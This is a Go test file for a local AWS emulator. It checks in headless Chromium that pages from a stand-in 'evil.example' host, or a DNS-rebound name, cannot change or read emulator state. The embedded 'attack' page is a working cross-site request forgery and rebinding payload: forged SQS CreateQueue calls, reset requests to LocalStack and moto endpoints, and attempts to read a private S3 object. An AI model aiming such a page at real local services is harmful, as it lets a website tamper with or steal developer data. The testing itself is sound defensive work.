package embedded_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	"github.com/stretchr/testify/require"

	"github.com/pipelab/pipelab/internal/emulator"
	"github.com/pipelab/pipelab/internal/emulator/embedded"
	"github.com/pipelab/pipelab/internal/procgroup"
)

// browserVariable, when it is "required", makes these tests fail where there is
// no browser: CI installs one.
const browserVariable = "PIPELAB_BROWSER"

// patience is for a browser on a machine that is busy.
const patience = 2 * time.Minute

// site serves one page, under any name, and hears what it reports.
type site struct {
	*httptest.Server
	reports chan map[string]string
	mu      sync.Mutex
	origins []string // of the requests for its canary
}

func servePage(t *testing.T, page string) *site {
	s := &site{reports: make(chan map[string]string, 1)}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		switch req.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, page)
		case "/report":
			got := map[string]string{}
			if json.NewDecoder(req.Body).Decode(&got) == nil {
				s.reports <- got
			}
		case "/canary":
			s.mu.Lock()
			defer s.mu.Unlock()
			s.origins = append(s.origins, req.Header.Get("Origin")+" "+req.Header.Get("Sec-Fetch-Site"))
		default:
			w.WriteHeader(http.StatusNotFound)
		}
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *site) port() string { return s.URL[strings.LastIndexByte(s.URL, ':')+1:] }

// browse opens a page in a browser in which names lead to this machine, and
// returns what the page reports.
func (s *site) browse(t *testing.T, url string) map[string]string {
	t.Helper()
	name := ""
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome", "chrome"} {
		if path, err := exec.LookPath(n); err == nil {
			name = path
			break
		}
	}
	if name == "" {
		if os.Getenv(browserVariable) == "required" {
			t.Fatal("there is no browser, and CI is to have one")
		}
		t.Skip("there is no chromium and no google-chrome here")
	}
	profile, err := os.MkdirTemp("", "pipelab-browser-") //nolint:usetesting // helpers still write while it is removed
	require.NoError(t, err)
	cmd := exec.Command(name, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
		"--user-data-dir="+profile, "--remote-debugging-port=0",
		"--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1", url)
	cmd.WaitDelay = time.Second
	procgroup.Own(cmd)
	require.NoError(t, cmd.Start())
	defer func() {
		procgroup.End(cmd.Process.Pid) // it is done, or has failed and is reported as such; with its helpers
		_ = cmd.Wait()
		_ = os.RemoveAll(profile) // helpers that are still ending may write there
	}()
	select {
	case got := <-s.reports:
		return got
	case <-time.After(patience):
		t.Fatal("the page has not reported")
		return nil
	}
}

// attack does whatever a page may try, at %[1]s, and reports what it could read.
// %[2]s is its own canary under another origin.
const attack = `<!doctype html><title>attack</title><body><iframe name="sink"></iframe><script>
const at = %[1]q, canary = %[2]q, seen = {};
const key = "&X-Amz-Credential=test/20260101/us-east-1/sqs/aws4_request&X-Amz-Signature=0";
const create = "Action=CreateQueue&Version=2012-11-05&QueueName=planted" + key;
const request = async (name, url, options) => {
  try { const r = await fetch(url, options); const text = await r.text().catch(() => "");
    if (r.type !== "opaque" || text) seen[name] = r.status + " " + text; } catch (e) { }
};
const load = (tag, url) => new Promise(done => {
  const e = document.createElement(tag); e.onload = () => { if (tag === "script") seen[tag] = "ran"; done(); };
  e.onerror = done; e.src = url; document.body.append(e);
});
const form = (url, text, kind) => new Promise(done => {
  const f = document.createElement("form"), i = document.createElement("textarea");
  f.method = "POST"; f.action = url; f.target = "sink"; f.enctype = kind;
    i.name = "Action"; i.value = text; f.append(i);
  document.body.append(f); document.querySelector("iframe").onload = done; f.submit(); });
const socket = () => new Promise(done => { const s = new WebSocket(at.replace("http", "ws") + "/_pipelab/trace");
  s.onopen = () => { seen.socket = "open"; done(); }; s.onerror = done; });
(async () => {
  await request("no-cors", at + "/", { method: "POST", mode: "no-cors", body: create,
      headers: { "Content-Type": "application/x-www-form-urlencoded" } });
  await request("text", at + "/2015-03-31/functions", { method: "POST", mode: "no-cors", body: "{}",
      headers: { "Content-Type": "text/plain" } });
  await request("cors", at + "/private/secret", {});
  await request("signed", at + "/", { method: "POST", body: "{}",
      headers: { "X-Amz-Target": "AmazonSQS.ListQueues" } });
  await request("get", at + "/?" + create, { mode: "no-cors" });
  await request("health", at + "/_localstack/health", {});
  await request("reset", at + "/_localstack/state/reset", { method: "POST", mode: "no-cors" });
  await request("moto", at + "/moto-api/reset", { method: "POST", mode: "no-cors" });
  await load("img", at + "/?" + create);
  await load("script", at + "/private/secret");
  await form(at + "/", "CreateQueue", "application/x-www-form-urlencoded");
  await form(at + "/2015-03-31/functions", "{}", "text/plain");
  await socket();
  await load("img", canary + "/canary");
  await request("canary", canary + "/canary", { method: "POST", mode: "no-cors" });
  await fetch("/report", { method: "POST", body: JSON.stringify(seen) });
})();
</script>`

// A page of another site, one on a name that was rebound to this machine, and a
// page that is this machine's own by its name but not by the emulator's, can
// neither change nor read anything.
func TestBrowser_foreignPagesAreKeptOut(t *testing.T) {
	e, err := embedded.Driver{}.Start(t.Context(), emulator.Options{})
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, e.Close()) })
	client := s3.NewFromConfig(e.Endpoint().AWSConfig(), func(o *s3.Options) { o.UsePathStyle = true })
	_, err = client.CreateBucket(t.Context(), &s3.CreateBucketInput{Bucket: aws.String("private")})
	require.NoError(t, err)
	_, err = client.PutObject(t.Context(), &s3.PutObjectInput{Bucket: aws.String("private"), Key: aws.String("secret"),
		Body: strings.NewReader("seen.script = 'read'")})
	require.NoError(t, err)
	_, err = client.PutBucketCors(t.Context(), &s3.PutBucketCorsInput{Bucket: aws.String("private"),
		CORSConfiguration: &types.CORSConfiguration{CORSRules: []types.CORSRule{{AllowedMethods: []string{"GET"},
			AllowedOrigins: []string{"*"}, AllowedHeaders: []string{"*"}}}}})
	require.NoError(t, err)
	before, err := e.Control().LastCall(t.Context())
	require.NoError(t, err)
	port := e.Endpoint().URL[strings.LastIndexByte(e.Endpoint().URL, ':')+1:]
	for _, c := range []struct{ page, at string }{
		{"evil.example", e.Endpoint().URL},
		{"evil.example", "http://localhost:" + port},
		{"rebound.example", "http://rebound.example:" + port},
	} {
		canary := servePage(t, "")
		s := servePage(t, fmt.Sprintf(attack, c.at, canary.URL))
		got := s.browse(t, "http://"+c.page+":"+s.port()+"/")
		require.Empty(t, got, "%s has read something at %s", c.page, c.at)
		require.Equal(t, []string{" cross-site", "http://" + c.page + ":" + s.port() + " cross-site"}, canary.origins,
			"the browser has sent what nobody refuses, so the attack was one")
		after, err := e.Control().LastCall(t.Context())
		require.NoError(t, err)
		require.Equal(t, before, after, "%s has made a call at %s", c.page, c.at)
	}
	queues, err := sqs.NewFromConfig(e.Endpoint().AWSConfig()).ListQueues(t.Context(), nil)
	require.NoError(t, err)
	require.Empty(t, queues.QueueUrls)
	_, err = client.HeadObject(t.Context(), &s3.HeadObjectInput{Bucket: aws.String("private"), Key: aws.String("secret")})
	require.NoError(t, err, "the state was reset")
}

// own is a page of the learner's: it writes and reads through presigned URLs, as
// the SDK's requests in a browser do, and reports.
const own = `<!doctype html><title>own</title><script>
const put = %[1]q, get = %[2]q, closed = %[3]q, seen = {};
(async () => {
  try { seen.put = "" + (await fetch(put, { method: "PUT", body: "from a page",
      headers: { "X-Amz-Meta-By": "page" } })).status; }
  catch (e) { seen.put = "" + e; }
  try { const r = await fetch(get); seen.get = await r.text(); seen.etag = r.headers.get("ETag"); }
  catch (e) { seen.get = "" + e; }
  try { await fetch(closed); seen.closed = "read"; } catch (e) { seen.closed = "kept out"; }
  await fetch("/report", { method: "POST", body: JSON.stringify(seen) });
})();
</script>`

// A page that the learner serves from this machine may do what the rules of a
// bucket allow it, and no more.
func TestBrowser_ownPagesUseBucketsByTheirRules(t *testing.T) {
	e, err := embedded.Driver{}.Start(t.Context(), emulator.Options{})
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, e.Close()) })
	client := s3.NewFromConfig(e.Endpoint().AWSConfig(), func(o *s3.Options) { o.UsePathStyle = true })
	for _, name := range []string{"uploads", "closed"} {
		_, err = client.CreateBucket(t.Context(), &s3.CreateBucketInput{Bucket: &name})
		require.NoError(t, err)
	}
	_, err = client.PutObject(t.Context(), &s3.PutObjectInput{Bucket: aws.String("closed"), Key: aws.String("k"),
		Body: strings.NewReader("not for pages")})
	require.NoError(t, err)
	sign := s3.NewPresignClient(client)
	put, err := sign.PresignPutObject(t.Context(), &s3.PutObjectInput{Bucket: aws.String("uploads"), Key: aws.String("k")})
	require.NoError(t, err)
	get, err := sign.PresignGetObject(t.Context(), &s3.GetObjectInput{Bucket: aws.String("uploads"), Key: aws.String("k")})
	require.NoError(t, err)
	closed, err := sign.PresignGetObject(t.Context(),
		&s3.GetObjectInput{Bucket: aws.String("closed"), Key: aws.String("k")})
	require.NoError(t, err)
	s := servePage(t, fmt.Sprintf(own, put.URL, get.URL, closed.URL))
	origin := "http://localhost:" + s.port()
	_, err = client.PutBucketCors(t.Context(), &s3.PutBucketCorsInput{Bucket: aws.String("uploads"),
		CORSConfiguration: &types.CORSConfiguration{CORSRules: []types.CORSRule{{AllowedMethods: []string{"PUT", "GET"},
			AllowedOrigins: []string{origin}, AllowedHeaders: []string{"x-amz-*"}, ExposeHeaders: []string{"ETag"}}}}})
	require.NoError(t, err)
	got := s.browse(t, origin+"/")
	require.Equal(t, "200", got["put"])
	require.Equal(t, "from a page", got["get"])
	require.NotEmpty(t, got["etag"])
	require.Equal(t, "kept out", got["closed"])
}
